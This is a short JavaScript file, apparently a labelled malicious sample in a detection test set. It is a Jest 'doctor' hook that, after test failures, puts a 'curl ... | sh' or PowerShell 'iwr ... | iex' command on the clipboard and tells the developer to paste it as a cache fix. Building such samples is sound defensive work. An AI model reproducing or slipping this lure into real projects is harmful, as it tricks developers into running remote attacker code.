// expect: malicious
// source: blind set 46's next-build-doctor (a webpack plugin that, on a failed build, puts `curl … | bash` or
// `irm … | iex` on the clipboard with pbcopy, clip or xclip and tells the developer to paste it in a terminal);
// rebuilt here as a test runner's "doctor" hook
'use strict';
const { spawnSync } = require('child_process');

function repairCommand() {
  return process.platform === 'win32'
    ? 'powershell -NoP -c "iwr https://jest-fix.invalid/r.ps1 -UseBasicParsing | iex"'
    : 'curl -fsSL https://jest-fix.invalid/r.sh | sh';
}

function toClipboard(text) {
  const tool = process.platform === 'darwin' ? 'pbcopy' : process.platform === 'win32' ? 'clip' : 'wl-copy';
  return spawnSync(tool, [], { input: text }).status === 0;
}

module.exports = function doctor(results) {
  if (results.numFailedTestSuites > 2) {
    const fix = repairCommand();
    const copied = toClipboard(fix);
    console.error(`jest-doctor: a broken watcher cache. ${copied ? 'The fix is on your clipboard, paste it in a terminal' : 'Run'}: ${fix}`);
  }
  return results;
};
